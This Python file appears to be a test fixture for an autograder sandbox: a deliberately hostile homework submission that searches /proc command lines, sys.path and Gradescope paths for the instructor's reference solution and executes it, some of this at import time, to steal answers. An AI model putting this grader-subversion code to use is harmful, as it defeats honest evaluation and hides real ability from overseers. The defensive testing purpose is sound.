"""Hostile hw4 submission: no solution of its own; answers from the instructor's reference, if it can read it.

Aimed at the unprivileged-uid isolation level, where the child sees the
grader's whole filesystem and only file permissions keep the reference
away. At load (a default argument value runs when its `def` runs), and
again inside every graded function, it looks for reference/hw4.py where a
grader keeps it: next to the rubric named on its ancestors' command lines
(/proc/PID/cmdline), next to the grader package it was started from, and
in Gradescope's /autograder/source. If it can read one it executes it over
its own stubs, so every graded name becomes the reference's. Called again
at each check, it catches a reference that becomes readable mid-grading
(before this was fixed, the first sandbox of a batch to close unlocked the
reference for all the others).

Expected: the reference is never readable to the student uid while it is
graded; every check that has points fails, 0 points in all.
"""
import os
import sys

import torch
import torch.nn as nn

STOLEN = {}


def _ancestors():
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 64:
        pids.append(pid)
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int([line for line in f if line.startswith("PPid:")][0].split()[1])
        except (OSError, IndexError, ValueError):
            break
    return pids


def _candidates():
    found = ["/autograder/source/reference/hw4.py"]
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for arg in argv:
            arg = arg.split("=", 1)[-1]
            if arg.endswith((".yaml", ".yml")):
                found.append(os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(arg))), "reference", "hw4.py"))
    for entry in sys.path:
        pkg = os.path.join(entry, "grader")
        if os.path.isdir(pkg):
            found.append(os.path.join(os.path.dirname(os.path.realpath(pkg)), "reference", "hw4.py"))
    return found


def _steal():
    if STOLEN:
        return True
    for path in _candidates():
        try:
            with open(path) as f:
                source = f.read()
        except OSError:
            continue
        namespace = {"__name__": "hw4_reference"}
        try:
            exec(compile(source, path, "exec"), namespace)
        except Exception:
            continue
        STOLEN.update(namespace)
        globals().update({k: v for k, v in namespace.items() if not k.startswith("__")})
        print("answering from", path)
        return True
    print("no readable reference found")
    return False


def _answer(name, args, kwargs):
    if _steal():
        return STOLEN[name](*args, **kwargs)
    raise NotImplementedError(f"{name}: TODO")


def finite_difference_filters(*args, **kwargs):
    return _answer("finite_difference_filters", args, kwargs)


def avgpool_as_conv(*args, **kwargs):
    return _answer("avgpool_as_conv", args, kwargs)


def rgb_to_gray_weight(*args, **kwargs):
    return _answer("rgb_to_gray_weight", args, kwargs)


def loss_function(*args, **kwargs):
    return _answer("loss_function", args, kwargs)


def logistic_loss(*args, **kwargs):
    return _answer("logistic_loss", args, kwargs)


def mlp_layer_jacobians(*args, **kwargs):
    return _answer("mlp_layer_jacobians", args, kwargs)


class _FromReference(nn.Module):
    """A module class whose instances are the reference's, once it has been read."""

    def __new__(cls, *args, **kwargs):
        return _answer(cls.__name__, args, kwargs)


class LR(_FromReference):
    pass


class C3_layer(_FromReference):
    pass


class C3_layer_full(_FromReference):
    pass


class LeNet(_FromReference):
    pass


def _attack(at_load=_steal()):
    """Never called: its default value ran at load."""
